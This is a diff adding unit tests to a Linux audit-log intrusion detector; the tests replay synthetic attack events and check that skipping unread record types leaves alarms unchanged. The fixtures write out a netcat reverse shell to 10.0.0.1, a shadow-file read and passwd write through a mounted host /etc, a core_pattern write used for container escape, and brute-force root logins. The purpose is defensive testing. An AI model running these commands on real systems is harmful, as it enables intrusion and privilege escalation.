@@ -1,11 +1,15 @@
 #include <boost/test/unit_test.hpp>
 
+#include <filesystem>
+#include <fstream>
 #include <random>
+#include <sstream>
 #include <tuple>
 
 #include "alarm/fan_out_sink.h"
 #include "alarm/repeat_folder.h"
 #include "app/pipeline.h"
+#include "audit/event_assembler.h"
 #include "store/sqlite_store.h"
 #include "support/audit_text.h"
 #include "support/store_options.h"
@@ -312,3 +316,184 @@ BOOST_AUTO_TEST_CASE(a_throwing_resolver_is_counted_not_fatal) {
 }
 
 BOOST_AUTO_TEST_SUITE_END()
+
+namespace {
+
+// Events every detector of the default set has a say on, with records no
+// detector reads (BPRM_FCAPS) among those they do (EXECVE, PATH, CWD,
+// PROCTITLE, OPENAT2, USER_AUTH).
+std::string demand_events() {
+  auto rec = [](const std::string& type, int serial, const std::string& rest) {
+    return "type=" + type + " msg=audit(1764175801.100:" + std::to_string(serial) + "): " + rest + "\n";
+  };
+  auto sys = [&](int serial, int nr, const std::string& args, const std::string& ids, const std::string& comm,
+                 const std::string& exe, const std::string& key) {
+    return rec("SYSCALL", serial,
+               "arch=c000003e syscall=" + std::to_string(nr) + " " + args + " items=2 ppid=4200 pid=" +
+                   std::to_string(4000 + serial) + " auid=1000 " + ids +
+                   " suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3 comm=\"" + comm + "\" exe=\"" + exe +
+                   "\" key=\"" + key + "\"");
+  };
+  const std::string title = "6E63";  // "nc": the arguments are only in EXECVE
+  const std::string bprm = "fver=0 fp=0 fi=0 fe=0 old_pp=000001fffeffffff old_pi=0 old_pe=000001fffeffffff old_pa=0 "
+                           "pp=000001fffeffffff pi=0 pe=000001fffeffffff pa=0 frootid=0";
+  auto path = [&](int serial, int item, const std::string& name, const std::string& nametype) {
+    return rec("PATH", serial, "item=" + std::to_string(item) + " name=\"" + name + "\" inode=247777 dev=fe:00 "
+               "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=" + nametype + " cap_fp=0 cap_fi=0 cap_fe=0 "
+               "cap_fver=0 cap_frootid=0");
+  };
+  std::string t;
+  // A reverse shell executed (malicious_program, vulnerability_escape's runtime check, abnormal_*).
+  t += sys(1, 59, "success=yes exit=0 a0=1 a1=2 a2=3 a3=4", "uid=0 gid=0 euid=0", "nc", "/usr/bin/nc", "cshield.exec");
+  t += rec("BPRM_FCAPS", 1, bprm);
+  t += rec("EXECVE", 1, "argc=4 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"10.0.0.1\"");
+  t += rec("CWD", 1, "cwd=\"/tmp\"");
+  t += path(1, 0, "/usr/bin/nc", "NORMAL") + path(1, 1, "/lib64/ld-linux-x86-64.so.2", "NORMAL");
+  t += rec("PROCTITLE", 1, "proctitle=" + title);
+  // A set-uid gain on execution (abnormal_startup), with its BPRM_FCAPS.
+  t += sys(2, 59, "success=yes exit=0 a0=1 a1=2 a2=3 a3=4", "uid=1000 gid=1000 euid=0", "su", "/usr/bin/su",
+           "cshield.privilege_escalation");
+  t += rec("BPRM_FCAPS", 2, bprm);
+  t += rec("EXECVE", 2, "argc=1 a0=\"su\"");
+  t += rec("CWD", 2, "cwd=\"/\"") + path(2, 0, "/usr/bin/su", "NORMAL");
+  t += rec("PROCTITLE", 2, "proctitle=7375");
+  // The host's shadow file read by a relative name (file_escape: PATH and CWD).
+  t += sys(3, 257, "success=yes exit=3 a0=ffffff9c a1=7ffd a2=0 a3=0", "uid=0 gid=0 euid=0", "cat", "/bin/cat",
+           "cshield.file_escape:/etc/shadow");
+  t += rec("CWD", 3, "cwd=\"/hostetc\"") + path(3, 0, "/hostetc/", "PARENT") + path(3, 1, "shadow", "NORMAL");
+  t += rec("PROCTITLE", 3, "proctitle=636174");
+  // core_pattern opened for writing through openat2 (vulnerability_escape: OPENAT2, PATH, CWD).
+  t += sys(4, 437, "success=yes exit=3 a0=ffffff9c a1=7ffd a2=7ffe a3=18", "uid=0 gid=0 euid=0", "sh", "/bin/sh",
+           "cshield.vulnerability_escape");
+  t += rec("OPENAT2", 4, "oflag=01101 mode=0644 resolve=0x0");
+  t += rec("CWD", 4, "cwd=\"/hostproc/sys\"") + path(4, 0, "kernel/core_pattern", "NORMAL");
+  t += rec("PROCTITLE", 4, "proctitle=7368");
+  // A protected file written by a relative name (sensitive_file_access: PATH and CWD).
+  t += sys(6, 257, "success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6", "uid=0 gid=0 euid=0", "tee", "/usr/bin/tee",
+           "cshield.sensitive_file_access:web");
+  t += rec("CWD", 6, "cwd=\"/hostetc\"") + path(6, 0, "/hostetc/", "PARENT") + path(6, 1, "passwd", "NORMAL");
+  t += rec("PROCTITLE", 6, "proctitle=746565");
+  // ptrace (high_risk_syscall) and failed authentications (brute force).
+  t += sys(5, 101, "success=no exit=-1 a0=10 a1=1 a2=0 a3=0", "uid=0 gid=0 euid=0", "gdb", "/usr/bin/gdb",
+           "cshield.high_risk_syscall");
+  t += rec("PROCTITLE", 5, "proctitle=676462");
+  for (int i = 0; i < 12; ++i)
+    t += rec("USER_AUTH", 10 + i,
+             "pid=77 uid=0 auid=1000 ses=3 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/bin/su\" "
+             "hostname=? addr=? terminal=pts/0 res=failed'");
+  return t;
+}
+
+// A line per alarm: everything a sink could read of it.
+std::string flat_alarm(const Alarm& a) {
+  std::ostringstream o;
+  o << a.type << "|" << a.subtype << "|" << a.name << "|" << a.severity << "|" << a.category << "|" << a.syscall
+    << "|" << a.path.value_or("-") << "|" << a.evidence_json << "|" << a.description << "|"
+    << (a.container ? a.container->id + "/" + a.container->runtime : "host") << "|" << a.process.pid << "|"
+    << a.process.ppid << "|" << a.process.uid << "|" << a.process.euid << "|" << a.process.auid << "|"
+    << a.process.comm << "|" << a.process.exe << "|" << a.process.cmdline << "|" << a.audit_serial << "|"
+    << a.audit_time_ms << "|" << a.count;
+  return o.str();
+}
+
+// The alarms replay's pipeline raises for `text`, with or without leaving
+// unread the records no wanting detector reads; `declined` counts records
+// delivered without their fields.
+// With `policy`: every process in container "web-1", whose policy group
+// whitelists only /bin/sh and protects /hostetc and /hostproc (abnormal_process
+// and sensitive_file_access have a say too).
+std::vector<std::string> replayed(const std::string& text, bool demand, std::size_t& declined, bool policy = false) {
+  Counters counters;
+  CollectingSink sink;
+  DetectorInputs inputs;
+  Pipeline::Resolve resolve = unknown_container;
+  if (policy) {
+    PolicyGroup g;
+    g.name = "web";
+    g.selectors.names = {"web-*"};
+    g.process_whitelist = {"/bin/sh"};
+    g.protected_files = {"/hostetc/*", "/hostproc/*"};
+    inputs.policy = std::make_shared<const PolicySet>(std::vector<PolicyGroup>{g});
+    resolve = [](ProcessInfo&) -> std::optional<ContainerInfo> {
+      ContainerInfo c;
+      c.id = std::string(64, 'c');
+      c.runtime = "runc";
+      c.name = "web-1";
+      return c;
+    };
+  }
+  Pipeline pipeline(build_detectors(Config{}, inputs), resolve, sink, counters);
+  EventAssembler::RecordDemand reads;
+  if (demand) reads = [&](int type) { return pipeline.reads_record(type); };
+  EventAssembler assembler(
+      [&](AuditEvent&& e) {
+        for (const auto& r : e.records)
+          if (r.fields.empty()) ++declined;
+        pipeline.on_event(e);
+      },
+      &counters, [&](const AuditEvent& skeleton) { return pipeline.interested(skeleton); }, reads);
+  assembler.feed(text);
+  assembler.flush();
+  std::vector<std::string> out;
+  for (const auto& a : sink.alarms) out.push_back(flat_alarm(a));
+  return out;
+}
+
+}  // namespace
+
+// Records whose type no wanting detector reads are left without fields
+// (Detector::reads_record): the alarms must be those of events read whole,
+// for every detector of the default set. This fails if a detector reads a
+// record type it does not declare.
+BOOST_AUTO_TEST_CASE(records_no_wanting_detector_reads_change_no_alarm) {
+  std::size_t declined = 0, whole = 0;
+  const std::string events = demand_events();
+  const auto expected = replayed(events, false, whole);
+  BOOST_TEST(replayed(events, true, declined) == expected, boost::test_tools::per_element());
+  BOOST_TEST(expected.size() >= 6u);
+  BOOST_TEST(declined >= 2u);  // the BPRM_FCAPS records, at least
+  BOOST_TEST(whole == 0u);
+  auto raised_by = [](const std::vector<std::string>& alarms, const std::string& type) {
+    return std::count_if(alarms.begin(), alarms.end(), [&](const std::string& a) { return a.rfind(type + "|", 0) == 0; });
+  };
+  for (const char* detector : {"malicious_program", "abnormal_startup", "file_escape", "vulnerability_escape",
+                               "high_risk_syscall"})
+    BOOST_TEST_CONTEXT(detector) { BOOST_TEST(raised_by(expected, detector) >= 1); }
+  // The policy detectors, in a container of a policy group.
+  const auto with_policy = replayed(events, false, whole, true);
+  BOOST_TEST(replayed(events, true, declined, true) == with_policy, boost::test_tools::per_element());
+  BOOST_TEST(raised_by(with_policy, "abnormal_process") >= 1);
+  BOOST_TEST(raised_by(with_policy, "sensitive_file_access") >= 1);
+
+  namespace fs = std::filesystem;
+  std::size_t logs = 0;
+  for (const auto& entry : fs::recursive_directory_iterator(fs::path(CSHIELD_SHARED_DIR) / "data/audit-logs")) {
+    const auto ext = entry.path().extension();
+    if (!entry.is_regular_file() || (ext != ".log" && ext != ".txt")) continue;
+    std::ifstream in(entry.path(), std::ios::binary);
+    std::ostringstream text;
+    text << in.rdbuf();
+    std::size_t ignored = 0;
+    BOOST_TEST_CONTEXT(entry.path()) {
+      BOOST_TEST(replayed(text.str(), true, ignored) == replayed(text.str(), false, ignored),
+                 boost::test_tools::per_element());
+    }
+    ++logs;
+  }
+  BOOST_TEST(logs >= 40u);
+}
+
+// An observer may read any record: with one, every record is read.
+BOOST_AUTO_TEST_CASE(with_an_observer_every_record_is_read) {
+  Counters counters;
+  CollectingSink sink;
+  Pipeline p(build_detectors(Config{}), unknown_container, sink, counters);
+  const auto ev = one_event(demand_events().substr(0, demand_events().find("type=SYSCALL", 10)));
+  BOOST_REQUIRE(p.interested(ev));
+  BOOST_TEST(!p.reads_record(1321));  // BPRM_FCAPS
+  BOOST_TEST(p.reads_record(rec::kExecve));
+  BOOST_TEST(p.reads_record(rec::kProctitle));
+  p.set_observer([](const AuditEvent&, const ProcessInfo&, const ContainerInfo*) { return Pipeline::Observation{}; });
+  BOOST_REQUIRE(p.interested(ev));
+  BOOST_TEST(p.reads_record(1321));
+}
